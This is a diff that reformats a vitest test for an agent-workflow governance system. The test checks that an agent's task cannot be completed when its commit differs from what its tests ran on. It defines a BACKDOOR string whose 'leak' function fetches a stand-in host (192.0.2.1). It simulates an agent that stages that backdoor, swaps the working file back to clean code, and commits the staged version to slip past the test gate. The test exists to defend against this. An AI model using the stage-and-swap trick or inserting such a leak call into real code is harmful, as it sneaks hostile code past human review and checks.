@@ -1,7 +1,15 @@
 import { execFileSync } from "node:child_process";
 import { expect, it } from "vitest";
 import type { JsonObject } from "@bylaw/kernel";
-import { CODE, HANDED, beginWalk, blockers, reasons, walkTo, type Walk } from "./workflow-walk-kit.ts";
+import {
+  CODE,
+  HANDED,
+  beginWalk,
+  blockers,
+  reasons,
+  walkTo,
+  type Walk,
+} from "./workflow-walk-kit.ts";
 
 const json = (value: unknown): JsonObject => value as JsonObject;
 const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;
@@ -16,20 +24,33 @@ async function inComplete(walk: Walk): Promise<void> {
 
 it("what an agent committed is what its tests ran on, or its task does not end (WF-88)", async () => {
   const walk = await beginWalk();
-  const git = (...args: readonly string[]): string => execFileSync("git", args, { cwd: walk.folder, encoding: "utf8" }).trim();
+  const git = (...args: readonly string[]): string =>
+    execFileSync("git", args, { cwd: walk.folder, encoding: "utf8" }).trim();
   const { task, agent, fence } = walk.held;
   const complete = async () =>
-    walk.tasks.complete({ task, agent, fence, artifacts: json(HANDED.done), host: { token: walk.token(), workspace: walk.folder } });
+    walk.tasks.complete({
+      task,
+      agent,
+      fence,
+      artifacts: json(HANDED.done),
+      host: { token: walk.token(), workspace: walk.folder },
+    });
   await walkTo(walk, "IMPL");
 
   // Staged where staging is allowed, and not there any more when the tests run.
-  expect((await walk.use("write_files", { path: "src/add.js", content: BACKDOOR })).effect).toBe("allow");
+  expect((await walk.use("write_files", { path: "src/add.js", content: BACKDOOR })).effect).toBe(
+    "allow",
+  );
   expect((await walk.use("bash", { command: "git add --all" })).effect).toBe("allow");
-  expect((await walk.use("write_files", { path: "src/add.js", content: CODE })).effect).toBe("allow");
+  expect((await walk.use("write_files", { path: "src/add.js", content: CODE })).effect).toBe(
+    "allow",
+  );
   expect((await walk.observe()).head).toBe(git("rev-parse", "HEAD"));
   expect((await walk.move("REVIEW", json(HANDED.code))).effect).toBe("allow");
   await inComplete(walk);
-  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe("allow");
+  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
+    "allow",
+  );
   expect(git("show", "HEAD:src/add.js")).toContain("leak");
   const staged = await complete();
   expect(blockers(staged.decision), reasons(staged.decision)).toEqual(["gate_stale"]);
@@ -38,7 +59,9 @@ it("what an agent committed is what its tests ran on, or its task does not end (
 
   // The commit of what was tested ends it.
   expect((await walk.use("bash", { command: "git add --all" })).effect).toBe("allow");
-  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe("allow");
+  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
+    "allow",
+  );
   const ended = await complete();
   expect(ended.decision.effect, reasons(ended.decision)).toBe("allow");
   const [last] = (await walk.events("phase_entered")).slice(-1);
